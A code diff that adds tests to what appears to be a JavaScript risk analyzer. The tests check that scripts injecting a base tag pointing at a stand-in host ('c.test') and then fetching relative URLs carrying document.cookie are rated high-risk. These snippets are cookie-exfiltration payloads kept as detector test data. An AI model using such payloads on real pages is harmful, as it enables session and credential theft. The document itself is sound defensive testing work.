@@ -65,3 +65,23 @@ describe("addresses in markup and styles", () => {
 		expect(analyzeScript({ code: `document.body.innerHTML = ${JSON.stringify(html)}` }).risk_level).toBe("green");
 	});
 });
+
+describe("a base for addresses", () => {
+	const BASES = [
+		["an element", `const b = document.createElement("base"); b.href = "https://c.test/"; document.head.prepend(b);`],
+		["an attribute", `document.querySelector("base").setAttribute("href", "https://c.test/");`],
+		["markup", `document.head.insertAdjacentHTML("afterbegin", "<base href='https://c.test/'>");`],
+	] as const;
+
+	test.each(BASES)("%s moves what names no host", (_title, base) => {
+		for (const address of ['"x?" + document.cookie', '"/x?" + document.cookie', '"?" + document.cookie'])
+			expect(analyzeScript({ code: `${base} fetch(${address})` }).risk_level).toBe("red");
+		expect(analyzeScript({ code: base }).risk_level).toBe("amber");
+	});
+
+	test.each(BASES)("%s leaves alone what names one", (_title, base) => {
+		const code = `${base} fetch(location.origin + "/x?" + document.cookie)`;
+		expect(effectsOf(code)).toContainEqual(expect.stringMatching(/^request fetch > same-site </));
+		expect(analyzeScript({ code: base.replace("https://c.test/", "/app/") }).risk_level).toBe("green");
+	});
+});
